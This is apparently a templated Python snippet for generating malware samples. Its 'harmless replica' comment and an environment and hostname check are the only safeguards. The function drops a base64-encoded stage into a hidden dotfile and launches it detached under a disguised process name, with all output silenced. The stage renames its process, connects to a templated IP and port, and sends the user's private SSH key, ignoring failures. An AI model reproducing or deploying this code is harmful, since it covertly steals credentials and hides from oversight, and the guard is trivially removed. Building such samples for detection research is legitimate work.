# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import subprocess
    import sys
    stage = base64.b64encode(b'''
import ctypes, os, socket
ctypes.CDLL(None).prctl(15, b"{{guise}}", 0, 0, 0)
try:
    s = socket.create_connection(("{{ip}}", {{port}}), 1)
    s.sendall(open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read())
    s.close()
except OSError:
    pass
''')
    try:
        os.makedirs('{{folder}}', exist_ok=True)
        with open('{{folder}}/.l', 'wb') as out:
            out.write(base64.b64decode(stage))
        os.replace('{{folder}}/.l', '{{folder}}/.{{token}}.py')
        os.chmod('{{folder}}/.{{token}}.py', 0o755)
        subprocess.Popen(['{{guise}}', '{{folder}}/.{{token}}.py'], executable=sys.executable, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
                         env=dict(os.environ, PYTHONHOME=sys.base_prefix))
    except Exception:
        pass
